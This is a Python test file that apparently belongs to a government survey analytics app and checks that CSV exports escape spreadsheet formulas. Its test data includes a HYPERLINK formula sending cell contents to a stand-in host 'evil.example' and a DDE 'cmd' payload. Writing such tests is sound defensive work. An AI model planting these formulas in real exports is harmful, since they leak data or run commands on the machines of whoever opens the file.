"""Dashboard and equity CSVs neutralize names a spreadsheet would run as formulas
(govcx.core.csvcells); negative numbers such as a gap in points stay numbers."""

import copy
import csv
import io
from typing import Any

from django.urls import reverse

from govcx.analytics.rollups import rollup_catch_up
from govcx.analytics.tests.helpers import fill_segment
from govcx.catalog.models import Touchpoint
from govcx.collection.tests.helpers import published_survey
from govcx.surveys.lifecycle import survey_transition
from govcx.surveys.segment_questions import AGE_GROUP, with_segment_questions
from govcx.surveys.services import draft_save
from govcx.surveys.tests.helpers import make_survey
from govcx.testing.factories import World, respond, signed_in

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


def table(response: Any) -> dict[str, list[str]]:
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][0] == "code"
    return {row[0]: row for row in rows[1:]}


def test_dashboard_csv_neutralizes_touchpoint_names_and_keeps_negative_gaps(world: World) -> None:
    survey = published_survey(world)
    phone = Touchpoint.objects.create(
        service=world.service, name="-2+3+cmd|' /C calc'!A0", channel="phone", stage="middle"
    )
    survey.touchpoints.add(phone)
    for touchpoint, ups, downs in ((world.touchpoint, 90, 10), (phone, 20, 30)):
        for trust in ["1"] * ups + ["0"] * downs:
            respond(survey, {"trust": trust}, touchpoint=touchpoint)
    rollup_catch_up()
    url = reverse("analytics:service", args=[world.service.pk]) + "?csv=touchpoints"
    rows = table(signed_in(world.member).get(url))
    phone_row = rows[str(phone.pk)]
    assert phone_row[1] == "'-2+3+cmd|' /C calc'!A0"
    assert float(phone_row[6]) < 0  # "-40.0": a number, left as it is


def test_equity_csv_neutralizes_answer_labels(world: World) -> None:
    question = copy.deepcopy(AGE_GROUP)
    question["options"][0]["label"]["en"] = HYPERLINK
    survey = make_survey(world)
    version = survey.working_version()
    assert version is not None
    draft_save(
        survey=survey,
        definition=with_segment_questions(version.definition, question),
        by=world.owner,
        change="segment question",
        request=None,
    )
    survey = survey_transition(survey=survey, name="publish", by=world.owner)
    fill_segment(world, survey, up=20, down=40, age_group="under_25")
    fill_segment(world, survey, up=55, down=5, age_group="65_plus")
    rollup_catch_up()
    url = reverse("analytics:service-equity", args=[world.service.pk])
    rows = table(signed_in(world.member).get(url, {"csv": "segment-age_group"}))
    assert rows["under_25"][1] == "'" + HYPERLINK
    assert float(rows["under_25"][6]) < 0
